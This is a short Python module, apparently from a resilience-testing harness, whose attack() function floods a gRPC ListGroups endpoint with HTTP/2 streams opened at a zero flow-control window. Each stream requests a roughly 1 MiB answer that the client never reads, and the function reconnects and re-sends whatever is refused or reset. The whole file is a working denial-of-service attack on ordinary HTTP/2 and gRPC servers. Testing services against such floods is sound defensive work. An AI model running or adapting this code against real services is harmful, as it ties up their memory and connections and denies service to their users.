"""Answers that are asked for and not taken: streams whose window is 0."""

from __future__ import annotations

import time

from wagroups.v1 import groups_pb2

from http2 import Connection, grpc_message, head
from outcome import Outcome
from service import Target

CONNECTIONS = 8
STREAMS = 500
LIST_GROUPS = "/wagroups.v1.GroupsService/ListGroups"


def attack(target: Target, source: str, seconds: float) -> Outcome:
    """4,000 ListGroups on 8 connections, each with an answer of 1 MiB; what is refused or reset comes again."""
    block = head(LIST_GROUPS, target.keys["greedy"])
    request = groups_pb2.ListGroupsRequest(session="greedy", page_size=1000, view=groups_pb2.GROUP_VIEW_FULL)
    body = grpc_message(request.SerializeToString())
    connections = [Connection(target.grpc, source, initial_window=0) for _ in range(CONNECTIONS)]
    called = over = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for place, connection in enumerate(connections):
            if connection.is_closed or connection.goaway:
                connection.close()
                connections[place] = connection = Connection(target.grpc, source, initial_window=0)
            for number in [n for n, stream in connection.streams.items() if stream.is_ended or stream.is_reset]:
                del connection.streams[number]
                over += 1
            # So many at a time that the first round is done in less than two seconds, and no more than so many a second
            # where all are refused: what is measured is what is held.
            for _ in range(min(STREAMS - len(connection.streams), 50 if called < CONNECTIONS * STREAMS else 5)):
                connection.call(block, body)
                called += 1
            connection.receive(0.01)
        time.sleep(0.05)
    for connection in connections:
        connection.close()
    return Outcome(f"{called:,} calls, {over:,} of them ended by the service")
